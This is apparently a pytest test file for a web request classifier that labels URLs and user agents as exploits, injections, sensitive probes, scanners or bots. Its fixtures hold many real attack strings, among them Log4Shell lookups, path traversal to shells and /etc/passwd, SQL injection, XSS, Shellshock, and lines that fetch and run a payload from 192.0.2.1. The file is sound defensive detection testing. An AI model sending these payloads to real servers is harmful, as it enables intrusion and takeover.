import pytest

from agent.parse.automaton import known_patterns
from agent.parse.classify import classify_agent, classify_url
from agent.parse.normalise import normalise
from agent.parse.patterns import (
    AGENT_BITS,
    BOT_BIT,
    EXPLOIT_BIT,
    INJECTION_BIT,
    LOGIN_BIT,
    SCANNER_BIT,
    SENSITIVE_BIT,
    TOOL_BIT,
    patterns,
)

CHROME = (
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
)


def bits(url):
    return classify_url(url, 0).bits


def test_patterns_stand_in_the_form_that_texts_take():
    for text, _ in patterns():
        assert normalise(text) == text


def test_no_pattern_stands_twice_in_a_list():
    assert len(set(patterns())) == len(patterns())


def test_the_automaton_is_small_enough_for_a_processors_cache():
    automaton = known_patterns()
    assert len(automaton.found) < 1 << 14
    assert len(automaton.steps) * 2 < 2 << 20


@pytest.mark.parametrize(
    "url",
    [
        b"/?x=${jndi:ldap://a.example/b}",
        b"/?x=$%7b$%7blower:j%7dndi:ldap://a.example/b%7d",
        b"/?x=%24%7B%24%7B::-j%7D%24%7B::-n%7Ddi:rmi://a.example%7D",
        b"/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28x%29%29%7D/",
        b"/a?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        b"/a?q=${script:javascript:x}",
        b"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        b"/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
        b"/icons/.%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/hostname",
        b"/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input",
        b"/index.php?-s",
        b"/lib/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        b"/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
        b"/user/register?element_parents=account/mail/%23value&ajax_form=1",
        b"/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=x",
        b"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        b"/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd",
        b"/vpn/../vpns/cfg/smb.conf",
        b"/php/ztp_gate.php/.js.map",
        b"/public/plugins/alertlist/../../../../../../etc/passwd",
        b"/autodiscover/autodiscover.json?@a.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@a.example",
        b"/s/x/_/;/WEB-INF/web.xml",
        b"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/a",
        b"/shell?cd+/tmp;rm+-rf+*;wget+192.0.2.1/a;sh+/tmp/a",
        b"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
        b"/solr/a/select?q=1&wt=velocity&v.template=custom&v.template.custom=x",
        b"/console/css/%252e%252e%252fconsole.portal",
        b"/_ignition/execute-solution",
        b"/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
        b"/a.php?page=http://192.0.2.1/id.txt?",
        b"/a.php?dir=http://192.0.2.1/photo.gif?",
        b"/a.php?page=php://filter/convert.base64-encode/resource=index",
        b"/a?u=http://169.254.169.254/latest/meta-data/",
        b"/uploads/x_Shell.php",
        b"/images/c99.php",
        b"/wp-content/plugins/x/alfacgiapi/perl.alfa",
        b"/a?f=..%u2215..%u2215..%u2215etc%u2215hosts",
        b"/a?f=/et%00c/../../../%65tc/passwd",
        b"/a?f=..%2f.%2f..%2f./..//..%5cboot.ini",
    ],
)
def test_a_known_probe_is_an_exploit(url):
    assert bits(url) & EXPLOIT_BIT


@pytest.mark.parametrize(
    "url",
    [
        b"/?id=1+UNION/**/ALL/**/SELECT+1,2",
        b"/?id=1%27%20oR%20%271%27=%271",
        b"/?id=1;WAITFOR%20DELAY%20%270:0:5%27",
        b"/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        b"/?q=%253Csvg%2520onload%253Dalert(1)%253E",
        b"/?q=%22%20onmouseover=x",
        b"/?q={{7*7}}",
        b"/?host=127.0.0.1;cat%20/etc/passwd",
        b"/?f=../../../../etc/passwd",
        b"/..%2f..%2fa",
    ],
)
def test_an_injection_is_one(url):
    assert bits(url) & INJECTION_BIT


@pytest.mark.parametrize(
    "url",
    [
        b"/.env.production",
        b"/.git/config",
        b"/backup.sql",
        b"/old/phpMyAdmin/index.php",
        b"/actuator/heapdump",
        b"/wp-config.php.bak",
        b"/CFIDE/administrator/",
        b"/a/.htpasswd",
        b"http://example.com/",
        b"www.example.com:443",
        b"/etc/passwd%3f",
    ],
)
def test_what_no_visitor_asks_for_is_sensitive(url):
    assert bits(url) & SENSITIVE_BIT


@pytest.mark.parametrize(
    "url",
    [
        b"/",
        b"/blog/the-log4j-story?utm_source=news&utm_campaign=${campaign}",
        b"/share?url=https://example.com/page.php?id=3&title=A+%22quoted%22+title",
        b"/login/callback?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&state=a%2Bb%3D%3D",
        b"/matomo.php?action_name=Home&url=file:///C:/Users/me/page.html&urlref=http://example.com/?q=1",
        b"/search?q=rock+%27n%27+roll",
        b"/search?q=how+to+select+a+table+from+the+shop",
        b"/search?q=union+of+students+selection",
        b"/search?q=powershell",
        b"/search?q=nslookup",
        b"/search?q=java.lang.Runtime",
        b"/graphql?query={user(id:1){name,email}}",
        b'/api?filter={"a":{"$gt":1},"b":[1,2]}',
        b"/list?fields=name|id&sort=-date;id",
        b"/recaptcha/api.js?onload=ready&render=explicit",
        b"/shop/c++-in-depth?page=2",
        b"/a;jsessionid=0123456789ABCDEF?b=c",
        b"/static/app.3f2504e0.js.map",
        b"/config.json",
        b"/.well-known/acme-challenge/abc",
        b"/.well-known/security.txt",
        b"/data/migrations/1548957970627_remove-db-version.sql",
        b"/../about.html",
        b"/docs/%E2%82%AC/%C3%A9t%C3%A9?q=%E4%B8%AD%E6%96%87%EF%BC%9F",
        b"/index.html%20",
        b"/movies/godzilla.html",
        b"/cars/alfa.html",
        b"/nutshell.php",
        b"/env.js",
    ],
)
def test_what_visitors_ask_for_is_nothing(url):
    assert not bits(url) & ~LOGIN_BIT


@pytest.mark.parametrize(
    ("agent", "expected"),
    [
        (CHROME, 0),
        (b"sqlmap/1.8#stable (https://sqlmap.org)", TOOL_BIT | SCANNER_BIT),
        (b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", TOOL_BIT | SCANNER_BIT),
        (b"Mozilla/5.0 zgrab/0.x", TOOL_BIT | SCANNER_BIT),
        (b"Fuzz Faster U Fool v2.1.0", TOOL_BIT | SCANNER_BIT),
        (b"curl/8.5.0", TOOL_BIT),
        (b"python-requests/2.31.0", TOOL_BIT),
        (b"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", BOT_BIT),
        (b"Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)", BOT_BIT),
        (b"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", BOT_BIT),
        (b"BuzzMap/1.0 (Hydrangea; +http://example.com)", 0),
        (b"Bot/1.0 <a href='http://example.com/'>Bot</a>", 0),
        (b"() { :;}; /bin/bash -c id", INJECTION_BIT | EXPLOIT_BIT),
    ],
)
def test_a_user_agent_says_who_sends_it(agent, expected):
    assert classify_agent(agent) == expected & AGENT_BITS


def test_an_exploit_in_a_query_counts_and_a_sensitive_path_in_one_does_not():
    assert bits(b"/go?to=/c99.php") & EXPLOIT_BIT
    assert not bits(b"/go?to=/.git/config") & SENSITIVE_BIT
